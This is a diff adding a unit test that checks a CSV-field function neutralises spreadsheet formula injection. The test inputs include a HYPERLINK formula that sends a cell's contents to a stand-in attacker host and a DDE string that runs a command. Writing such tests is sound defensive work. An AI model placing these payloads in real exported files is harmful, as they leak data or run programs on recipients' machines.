@@ -66,3 +66,16 @@ test('csvField quotes only what needs it', () => {
 	expect(csvField('a,b')).toBe('"a,b"');
 	expect(csvField('say "hi"')).toBe('"say ""hi"""');
 });
+
+test('csvField neutralises a cell a spreadsheet would read as a formula', () => {
+	expect(csvField('=HYPERLINK("https://evil.example/?d="&A2,"Click")')).toBe(
+		'"\'=HYPERLINK(""https://evil.example/?d=""&A2,""Click"")"',
+	);
+	expect(csvField("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
+	expect(csvField('+cmd')).toBe("'+cmd");
+	expect(csvField('@SUM(1+1)')).toBe("'@SUM(1+1)");
+	expect(csvField('\tx')).toBe("'\tx");
+	expect(csvField('\rx')).toBe('"\'\rx"');
+	// Elsewhere in the text the same characters are ordinary.
+	expect(csvField('a = b - c')).toBe('a = b - c');
+});
